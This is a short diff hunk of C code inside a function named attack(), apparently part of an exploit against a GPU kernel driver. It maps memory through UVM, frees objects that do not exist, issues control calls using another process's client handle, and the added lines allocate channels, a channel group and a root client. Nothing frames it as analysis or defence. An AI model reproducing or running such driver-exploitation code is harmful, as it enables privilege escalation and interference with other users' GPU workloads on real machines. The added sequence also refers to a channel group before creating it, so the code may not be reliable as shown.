@@ -172,6 +172,12 @@ static void attack(void) {
 	map_by_uvm("own", "map memory (UVM)", fd, memory(&own), 0x600000000000);
 	release("own", "free what is not there", fd, client, device->object, NEW + 99);
 
+	// More of its own: the keeper is to know all that runs, and to be the only one who stops and resumes it.
+	uint8_t fifo[1024] = {0};
+	allocate("own", "make a channel", fd, client, find(&own, GROUP)->object, NEW + 20, channel(&own)->class, fifo, 0);
+	allocate("own", "make a channel group", fd, client, device->object, NEW + 21, GROUP, fifo, 0);
+	allocate("own", "make a client", fd, 0, 0, 0, ROOT, 0, 0);
+
 	// By the other's client on our descriptor.
 	uint32_t ids[32] = {0};
 	control("other", "use its client", fd, a, a, 0x201, ids, sizeof ids);
